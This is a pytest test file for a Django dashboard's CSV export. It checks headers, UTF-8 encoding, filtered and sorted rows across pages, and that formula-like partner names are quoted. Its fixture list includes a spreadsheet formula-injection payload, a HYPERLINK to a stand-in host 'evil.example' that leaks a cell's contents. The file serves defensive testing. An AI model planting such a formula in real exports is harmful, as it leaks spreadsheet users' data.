"""The CSV export: exactly the filtered, sorted table, every page, safe to open in a spreadsheet."""

import csv
import io

import pytest
from django.core.cache import cache
from django.urls import reverse

from assessments.tests.dashboard_data import P, build_portfolio, snapshot
from assessments.tests.factories import PartnerFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1",
    "-2",
    "@x",
    "\tx",
    "\rx",
]


@pytest.fixture(autouse=True)
def _empty_cache():
    cache.clear()


@pytest.fixture
def portfolio():
    return build_portfolio()


def export(client, query: str = "") -> tuple[list[str], list[list[str]], bytes]:
    response = client.get(f"{reverse('dashboard_export')}{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = b"".join(response.streaming_content)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return rows[0], rows[1:], raw


def test_the_export_is_utf8_with_a_header_row_and_names_the_period(client, portfolio):
    client.force_login(portfolio.lena)
    response = client.get(reverse("dashboard_export"))
    assert response["Content-Disposition"] == f'attachment; filename="partner-health-{P}.csv"'
    header, rows, raw = export(client)
    assert raw.startswith("\ufeffpartner,kind,segment,".encode())
    assert header[:10] == [
        "partner", "kind", "segment", "account_managers", "annual_revenue_EUR", "period", "health", "band", "change",
        "declining",
    ]
    assert header[10] == "characteristics.quality" and header[-1] == "symptoms_score"
    assert len(header) == 24  # 10 + 6 characteristics + 7 traits + the symptom score
    first = dict(zip(header, rows[0], strict=True))
    assert first["partner"] == "Delta"
    assert (first["health"], first["band"], first["change"], first["declining"]) == ("35.0", "Critical", "1.0", "no")
    assert first["characteristics.trust"] == "1.5" and first["symptoms_score"] == "40.0"
    assert first["segment"] == "Regular" and first["kind"] == "Client" and first["account_managers"] == "Ben Okafor"


def test_the_export_holds_exactly_the_filtered_sorted_rows_of_every_page(client, portfolio, monkeypatch):
    monkeypatch.setattr("assessments.selectors.dashboard.heatmap.PAGE_SIZE", 1)
    client.force_login(portfolio.lena)
    _, rows, _ = export(client, "?segment=developing&sort=-health")
    assert [r[0] for r in rows] == ["Charlie", "Golf", "Bravo"]
    _, rows, _ = export(client, "?declining=on")
    assert [(r[0], r[9]) for r in rows] == [("Bravo", "yes"), ("Echo", "yes")]
    _, rows, _ = export(client, "?period=2026-Q2&sort=name")
    assert [r[0] for r in rows] == ["Alpha", "Bravo", "Charlie", "Delta", "Echo", "Hotel"]
    assert {r[5] for r in rows} == {"2026-Q2"}


def test_cells_that_would_run_as_formulas_are_quoted_and_numbers_stay_numbers(client, portfolio):
    for index, name in enumerate(HOSTILE_NAMES):
        partner = PartnerFactory(name=name, segment="strategic", annual_revenue=10 + index)
        snapshot(partner=partner, period=portfolio.periods[P], health=90, delta=-4.5)
    client.force_login(portfolio.lena)
    _, rows, _ = export(client, "?segment=strategic&sort=revenue")

    names = [r[0] for r in rows]
    assert names == [f"'{name}" for name in HOSTILE_NAMES] + ["Alpha"]
    # A negative change is our own number, not user text: it stays a number.
    assert rows[0][8] == "-4.5"


def test_commas_quotes_and_newlines_in_a_name_survive_the_round_trip(client, portfolio):
    name = 'Smith, Jones & "Partners"\nLimited'
    partner = PartnerFactory(name=name, segment="strategic")
    snapshot(partner=partner, period=portfolio.periods[P], health=95, delta=None)
    client.force_login(portfolio.lena)
    _, rows, raw = export(client, "?segment=strategic&sort=-health")
    assert rows[0][0] == name
    assert rows[0][8] == ""  # no change to report for a first snapshot
    assert b'"Smith, Jones & ""Partners""\nLimited"' in raw


def test_non_ascii_names_are_written_as_utf8(client, portfolio):
    partner = PartnerFactory(name="Zürich Dienstleistungen — Ærø", segment="strategic")
    snapshot(partner=partner, period=portfolio.periods[P], health=95, delta=None)
    client.force_login(portfolio.lena)
    _, rows, raw = export(client, "?q=rich")
    assert rows[0][0] == "Zürich Dienstleistungen — Ærø"
    assert "Zürich".encode() in raw
